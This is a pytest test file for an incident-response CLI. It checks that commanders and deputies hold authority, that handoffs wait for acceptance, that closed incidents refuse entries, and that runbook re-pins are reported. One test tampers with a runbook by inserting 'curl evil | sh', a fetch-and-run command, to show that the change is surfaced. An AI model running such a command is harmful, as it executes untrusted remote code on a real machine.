"""The policy holds without a server: the real console script on temporary homes."""

from pathlib import Path

import pytest

from tests.runbooks.test_cli_runbooks import SMALL


@pytest.fixture
def incident(cli) -> str:
    """Declared by ``tester`` (the default user of these tests)."""
    args = ("declare", "Checkout 502s", "--severity", "SEV2", "--type", "outage", "--json")
    return cli(*args).json()["id"]


def _refused(cli, *args, **options) -> str:
    result = cli(*args, **options, check=False)
    assert result.code == 1 and result.out == "", (result.out, result.err)
    assert "Traceback" not in result.err
    return result.err.removeprefix("warroom: error: ").strip()


def test_the_declarer_holds_command_and_others_are_refused_locally(cli, incident):
    status = cli("status", incident, "--json").json()
    assert status["commander"] == "tester"
    assert "commander       tester" in cli("status", incident).out
    err = _refused(cli, "severity", incident, "SEV4", user="erin")
    assert err == f"changing severity needs the commander or deputy of {incident}; erin is not"
    err = _refused(cli, "handoff", incident, "commander", "erin", user="erin")
    assert "handing off a role needs the commander or deputy" in err
    err = _refused(cli, "accept", incident, user="erin")
    assert err == f"no handoff of commander to erin is waiting on {incident}"
    events = cli("export", incident, "--format", "json").json()["events"]
    assert [e["payload"]["kind"] for e in events] == ["declaration"]


def test_with_command_vacant_the_refusal_says_who_may(cli, _isolated_home: Path):
    _isolated_home.mkdir(parents=True, exist_ok=True)
    (_isolated_home / "policy.toml").write_text("[access]\ndeclarer_takes_command = false\n")
    incident = cli("declare", "DNS", "--json").json()["id"]
    assert cli("status", incident, "--json").json()["commander"] is None
    err = _refused(cli, "severity", incident, "SEV4", user="erin")
    assert f"Nobody holds command of {incident} yet: its declarer (tester) may" in err
    assert "`assign commander NAME`" in err
    cli("assign", incident, "commander", "erin")  # the declarer seats the first commander
    cli("severity", incident, "SEV4", user="erin")


def test_a_handoff_waits_for_acceptance(cli, incident):
    cli("handoff", incident, "commander", "bo")
    status = cli("status", incident, "--json").json()
    assert status["commander"] == "tester"
    pending = status["state"]["handoffs"][-1]
    assert (pending["from_person"], pending["to_person"], pending["accepted_at"]) == (
        "tester",
        "bo",
        None,
    )
    assert "commander tester -> bo (awaiting acceptance)" in cli("status", incident).out
    _refused(cli, "severity", incident, "SEV1", user="bo")
    cli("accept", incident, user="bo")
    assert cli("status", incident, "--json").json()["commander"] == "bo"
    cli("severity", incident, "SEV1", user="bo")
    _refused(cli, "severity", incident, "SEV3")


def test_a_closed_incident_refuses_entries_until_reopened(cli, incident):
    cli("status", incident, "closed")
    err = _refused(cli, "log", incident, "one more thing")
    assert err == (
        f"{incident} is closed; reopen it first, with a reason (`warroom reopen {incident} REASON`)"
    )
    cli("reopen", incident, "errors are back")
    assert cli("status", incident, "--json").json()["state"]["status"] == "investigating"
    cli("log", incident, "one more thing")


def test_a_retracted_status_update_does_not_reset_its_clock(cli, incident):
    def internal_due() -> str:
        clocks = cli("status", incident, "--json").json()["update_clocks"]
        return next(c["due_at"] for c in clocks if c["audience"] == "internal")

    before = internal_due()
    update = cli("log", incident, "looking", "--kind", "status-update", "--json").json()
    assert internal_due() > before
    cli("retract", incident, update["id"], "sent to the wrong channel")
    assert internal_due() == before


def test_contradicting_milestones_are_refused_with_the_reason(cli, incident):
    cli("milestone", incident, "impact_started", "--at", "-10m")
    err = _refused(cli, "milestone", incident, "resolved", "--at", "-20m")
    assert err.startswith("it was resolved at ") and "would be before impact started at" in err
    err = _refused(cli, "milestone", incident, "mitigated", "--at", "-15m")
    assert "it was mitigated at " in err


def test_backdating_far_before_the_declaration_asks_for_yes(cli, incident):
    err = _refused(cli, "log", incident, "the deploy that started it", "--at", "-3d")
    assert err.startswith("the entry (") and f"is dated 3.0 days before {incident} was" in err
    assert err.endswith("if that is right, run it again with --yes")
    cli("log", incident, "the deploy that started it", "--at", "-3d", "--yes")
    cli("log", incident, "an hour ago", "--at", "-1h")  # within the policy: no question


def test_too_long_text_is_refused_in_the_users_words(cli, incident):
    err = _refused(cli, "log", incident, "-", input="x" * 12_034)
    assert err == "entry is 12,034 characters; the limit is 10,000"


def test_a_responder_cannot_re_pin_and_a_re_pin_lists_its_changes(cli, incident, _isolated_home):
    folder = _isolated_home / "runbooks"
    folder.mkdir(parents=True)
    (folder / "small.md").write_text(SMALL)
    cli("attach", incident, "small", user="sam")  # attaching first is open to responders
    weaker = SMALL.replace("[approval] Commander approves", "[action] Commander approves")
    weaker = weaker.replace('echo "looking at $WARROOM_USER"', "curl evil | sh")
    (folder / "small.md").write_text(weaker)
    err = _refused(cli, "attach", incident, "small", user="sam")
    assert (
        err == f"re-pinning runbook small needs the commander or deputy of {incident}; sam is not"
    )
    out = cli("attach", incident, "small").out
    assert "  gate type approval -> action (stays approval: a re-pin cannot lift a gate)" in out
    assert '  look command `echo "looking at $WARROOM_USER"` -> `curl evil | sh`' in out
    md = cli("export", incident, "--format", "md").out
    assert "re-pinned from" in md and r"gate type approval -\> action (stays approval" in md
    err = _refused(cli, "step", incident, "gate", "done", user="sam")
    assert "completing an approval step needs the commander or deputy" in err
